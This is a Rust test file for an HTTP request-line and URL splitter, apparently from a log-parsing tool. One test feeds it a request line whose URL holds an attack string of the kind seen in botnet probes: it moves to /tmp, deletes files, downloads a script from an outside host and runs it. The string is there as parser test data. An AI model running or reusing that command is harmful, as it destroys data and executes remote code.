//! Tests of `request`.

use super::*;

fn req(line: &str) -> (Option<&str>, Option<&str>, Option<&str>) {
    let r = split_request(line.as_bytes());
    fn s(o: Option<&[u8]>) -> Option<&str> {
        o.map(|b| std::str::from_utf8(b).unwrap())
    }
    (s(r.method), s(r.url), s(r.version))
}

#[test]
fn plain_request() {
    assert_eq!(
        req("GET http://www.example.com:80/ HTTP/1.1"),
        (Some("GET"), Some("http://www.example.com:80/"), Some("1.1"))
    );
}

#[test]
fn tcp_listener_request_is_all_absent() {
    assert_eq!(req("- - - "), (None, None, None));
    assert_eq!(req("- - -"), (None, None, None));
}

#[test]
fn url_with_spaces_splits_at_first_and_last_space() {
    assert_eq!(
        req("GET http://x/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh HTTP/1.1"),
        (
            Some("GET"),
            Some("http://x/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh"),
            Some("1.1")
        )
    );
}

#[test]
fn malformed_requests() {
    assert_eq!(
        req("- http://www.example.com:80- -"),
        (None, Some("http://www.example.com:80-"), None)
    );
    assert_eq!(
        req("- http://example.com:8080- "),
        (None, Some("http://example.com:8080-"), None)
    );
    assert_eq!(
        req("GET http://a:80/ HTTP/1.0 "),
        (Some("GET"), Some("http://a:80/"), Some("1.0"))
    );
}

#[test]
fn url_parts() {
    let u = split_url(b"https://user:pw@www.example.com:443/a/b.html?x=1&y=2");
    assert_eq!(u.scheme, Some(&b"https"[..]));
    assert_eq!(u.domain, Some(&b"www.example.com"[..]));
    assert_eq!(u.port, Some(&b"443"[..]));
    assert_eq!(u.path, Some(&b"/a/b.html"[..]));
    assert_eq!(u.query, Some(&b"x=1&y=2"[..]));
    assert_eq!(u.extension, Some(&b"html"[..]));
    let u = split_url(b"https://example.com");
    assert_eq!(
        (u.domain, u.port, u.path),
        (Some(&b"example.com"[..]), None, None)
    );
    let u = split_url(b"/transactions:search?q=1");
    assert_eq!(
        (u.scheme, u.path, u.query),
        (None, Some(&b"/transactions:search"[..]), Some(&b"q=1"[..]))
    );
}
